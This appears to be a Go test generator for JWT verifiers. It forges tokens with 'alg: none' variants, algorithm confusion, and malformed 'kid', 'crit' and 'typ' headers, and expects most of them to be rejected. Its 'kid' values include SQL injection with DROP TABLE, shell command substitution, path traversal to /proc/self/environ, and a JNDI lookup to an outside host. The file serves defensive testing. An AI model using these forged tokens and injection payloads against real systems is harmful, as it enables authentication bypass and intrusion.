package attack

import (
	"fmt"
	"strings"
)

// algorithms are all that JWA knows for signatures, and some that it does not.
var algorithms = []string{
	"HS256", "HS384", "HS512", "RS256", "RS384", "RS512", "PS256", "PS384", "PS512", "ES256", "ES384", "ES512",
	"ES256K", "EdDSA", "Ed25519", "Ed448", "HS1", "HS224", "RS1", "HS256/64", "ML-DSA-44", "dir", "A128KW", "A256GCM", "RSA-OAEP", "PBES2-HS256+A128KW",
}

// None returns tokens that claim to need no signature, and have none, or one
// that was made for something else.
func None(f *Forge) []Token {
	var all []Token
	issued := strings.Split(f.Issued, ".")
	for _, alg := range []string{
		"none", "None", "NONE", "nOnE", "NonE", "none ", " none", "none\u0000", "\u0000none", "none\n", "ｎone", "nonе", "no", "null", "nil", "undefined", "false", "0",
	} {
		header := f.header.set("alg", quote(alg)).String()
		for _, signature := range []struct{ name, text string }{
			{"no signature", ""},
			{"the issued signature", issued[2]},
			{"a zero byte", "AA"},
			{"a MAC with an empty key", encode(mac("HS256", nil, encode(header)+"."+issued[1]))},
		} {
			all = append(all, newToken(fmt.Sprintf("%q with %s", alg, signature.name), encode(header)+"."+issued[1]+"."+signature.text, Unauthorized))
		}
		// No key to name, so nothing to look up.
		bare := encode(`{"alg":` + quote(alg) + `}`)
		all = append(all,
			newToken(fmt.Sprintf("%q alone", alg), bare+"."+issued[1]+".", Unauthorized),
			newToken(fmt.Sprintf("%q alone without a second dot", alg), bare+"."+issued[1], Unauthorized))
	}
	return all
}

// Algorithms returns tokens that name another algorithm than their key's, or
// none in a way that could be read as one.
func Algorithms(f *Forge) []Token {
	var all []Token
	issued := strings.Split(f.Issued, ".")
	signed := func(name, header string, w Want) {
		all = append(all, newToken(name, f.token(header, f.claims.String()), w))
	}
	for _, alg := range algorithms {
		if alg == f.alg {
			continue
		}
		for _, h := range []object{f.header.set("alg", quote(alg)), f.header.set("alg", quote(alg)).without("kid")} {
			name := alg
			if h.get("kid") == "" {
				name += " without kid"
			}
			signing := encode(h.String()) + "." + issued[1]
			all = append(all,
				newToken(name+" with the issued signature", signing+"."+issued[2], Unauthorized),
				// Where the secret is known, the MAC of another length is right.
				newToken(name+" with a MAC", signing+"."+encode(mac(alg, f.secret, signing)), Unauthorized))
		}
	}
	for name, value := range map[string]string{
		"number": "256", "null": "null", "true": "true", "array": `["` + f.alg + `"]`, "object": `{"alg":"` + f.alg + `"}`, "empty": `""`,
		"lower case": quote(strings.ToLower(f.alg)), "blank after it": quote(f.alg + " "), "blank before it": quote(" " + f.alg),
		"NUL after it": quote(f.alg + "\x00"), "list": quote(f.alg + ",none"), "hyphen": quote(f.alg[:2] + "-" + f.alg[2:]),
		"full-width letters": quote("ＨＳ２５６"), "long s": quote("Hſ256"),
	} {
		signed("alg is "+name, f.header.set("alg", value).String(), Unauthorized)
	}
	alg := f.header.get("alg")
	rest := f.header.without("alg")
	signed("alg absent", rest.String(), Unauthorized)
	for _, name := range []string{"ALG", "Alg", "aLg", "alg ", "alg\x00", "algorithm"} {
		signed(fmt.Sprintf("%q for alg", name), rest.add(quote(name), alg).String(), Unauthorized)
		signed(fmt.Sprintf("%q none beside alg", name), f.header.add(quote(name), `"none"`).String(), f.admitted())
		signed(fmt.Sprintf("%q right beside alg none", name), f.header.set("alg", `"none"`).add(quote(name), alg).String(), Unauthorized)
	}
	signed("alg twice, none first", f.header.ahead(`"alg"`, `"none"`).String(), Unauthorized)
	signed("alg twice, none last", f.header.add(`"alg"`, `"none"`).String(), Unauthorized)
	signed("alg twice, the same", f.header.add(`"alg"`, alg).String(), Unauthorized)
	signed("alg twice, once escaped", f.header.add(`"\u0061lg"`, `"none"`).String(), Unauthorized)
	signed("alg escaped", rest.ahead(`"\u0061lg"`, alg).String(), f.admitted())
	signed("as issued", f.header.String(), f.admitted())
	return all
}

// Headers returns tokens whose header says what nobody should follow. elsewhere
// is the base URL of a place that must never be asked.
func Headers(f *Forge, elsewhere string) []Token {
	var all []Token
	signed := func(name string, header object, w Want) {
		all = append(all, newToken(name, f.token(header.String(), f.claims.String()), w))
	}
	kid := f.header.get("kid")
	for name, value := range map[string]string{
		"path up": quote("../../../../../../dev/null"), "path": quote("/dev/null"), "backslashes": quote(`..\..\..\nul`), "encoded path": quote("%2e%2e%2f%2e%2e%2fdev%2fnull"),
		"proc": quote("/proc/self/environ"), "SQL or": quote(`' OR '1'='1`), "SQL union": quote(`x' UNION SELECT 'AAAA' -- `), "SQL drop": quote(`'; DROP TABLE keys; --`),
		"NoSQL": `{"$ne":null}`, "LDAP": quote("*)(uid=*"), "pipe": quote("|sleep 30"), "substitution": quote("$(sleep 30)"), "backticks": quote("`sleep 30`"), "template": quote("{{7*7}}${7*7}"),
		"JNDI": quote("${jndi:" + elsewhere + "/a}"), "URL": quote(elsewhere + "/key"), "file URL": quote("file:///dev/null"), "data URL": quote("data:,AAAA"), "UNC": quote(`\\` + strings.TrimPrefix(elsewhere, "http://") + `\key`),
		"10,000 bytes": quote(strings.Repeat("k", 10_000)), "empty": `""`, "null": "null", "number": "0", "true": "true", "array": "[" + kid + "]", "empty array": "[]", "object": "{}",
		"other": `"other"`, "blank": `" "`, "star": `"*"`, "NUL": `"\u0000"`, "line end": `"\r\nX-Injected: 1"`,
		"blank after it": kid[:len(kid)-1] + ` "`, "NUL after it": kid[:len(kid)-1] + `\u0000"`, "cut": kid[:len(kid)-2] + `"`, "upper case": strings.ToUpper(kid), "the algorithm": quote(f.alg),
	} {
		signed("kid is "+name, f.header.set("kid", value), Unauthorized)
	}
	signed("kid twice, other first", f.header.ahead(`"kid"`, `"other"`), Unauthorized)
	signed("kid twice, other last", f.header.add(`"kid"`, `"other"`), Unauthorized)
	signed("kid twice, once escaped", f.header.add(`"\u006bid"`, kid), Unauthorized)
	signed("KID beside kid", f.header.add(`"KID"`, `"other"`), f.admitted())
	signed("kid absent", f.header.without("kid"), f.admitted())

	for name, value := range map[string]string{
		"empty": "[]", "exp": `["exp"]`, "b64": `["b64"]`, "alg": `["alg"]`, "kid": `["kid"]`, "crit": `["crit"]`, "null": "null", "text": `"exp"`, "object": "{}", "true": "true",
		"number": "1", "list of numbers": "[1]", "list of null": "[null]", "empty name": `[""]`, "URI": `["http://example.com/UNDEFINED"]`, "name twice": `["b64","b64"]`, "many": quote(strings.Split(strings.Repeat("x ", 1000), " ")),
	} {
		signed("CVE-2025-59420: crit is "+name, f.header.set("crit", value), Unauthorized)
	}
	signed("crit before all else", f.header.ahead(`"crit"`, `["exp"]`), Unauthorized)
	signed("crit escaped", f.header.add(`"cri\u0074"`, `["exp"]`), Unauthorized)
	signed("crit with what it names", f.header.add(`"crit"`, `["x"]`).add(`"x"`, "1"), Unauthorized)
	for name, h := range map[string]object{
		"b64 false": f.header.add(`"b64"`, "false"), "b64 true": f.header.add(`"b64"`, "true"), "b64 false and critical": f.header.add(`"b64"`, "false").add(`"crit"`, `["b64"]`), "b64 null": f.header.add(`"b64"`, "null"),
		"zip": f.header.add(`"zip"`, `"DEF"`), "zip null": f.header.add(`"zip"`, "null"), "zip empty": f.header.add(`"zip"`, `""`),
		"cty JWT": f.header.add(`"cty"`, `"JWT"`), "cty empty": f.header.add(`"cty"`, `""`), "cty null": f.header.add(`"cty"`, "null"), "cty json": f.header.add(`"cty"`, `"json"`),
	} {
		signed(name, h, Unauthorized)
	}

	for _, typ := range []string{
		"at+jwt", "AT+JWT", "application/at+jwt", "logout+jwt", "dpop+jwt", "secevent+jwt", "token-introspection+jwt", "oauth-authz-req+jwt", "client-authentication+jwt", "kb+jwt", "vc+sd-jwt",
		"JWE", "JOSE", "JOSE+JSON", "JWS", "", " ", "JWT ", " JWT", "JWT\x00", "JWT,at+jwt", "application/", "application/application/JWT", "text/JWT", "ＪＷＴ", "jwt;x=1",
	} {
		signed(fmt.Sprintf("typ is %q", typ), f.header.set("typ", quote(typ)), Unauthorized)
	}
	for _, typ := range []string{"null", "true", "1", `["JWT"]`, "{}"} {
		signed("typ is "+typ, f.header.set("typ", typ), Unauthorized)
	}
	for _, typ := range []string{"jwt", "JWT", "application/jwt", "APPLICATION/JWT"} {
		signed("typ may be "+typ, f.header.set("typ", quote(typ)), f.admitted())
	}
	signed("typ may be absent", f.header.without("typ"), f.admitted())
	signed("typ twice", f.header.add(`"typ"`, `"at+jwt"`), Unauthorized)

	// Whoever may sign needs no key in the header. One that is there is not
	// followed, and does no harm.
	for _, name := range []string{"jku", "x5u"} {
		signed(name+" beside a good signature", f.header.add(quote(name), quote(elsewhere+"/"+name)), f.admitted())
	}
	for _, s := range shapes(f.header.String()) {
		all = append(all, newToken("shape: "+s.name, f.token(s.text, f.claims.String()), Unauthorized))
	}
	for _, s := range sound(f.header.String()) {
		all = append(all, newToken("sound: "+s.name, f.token(s.text, f.claims.String()), f.admitted()))
	}
	return all
}
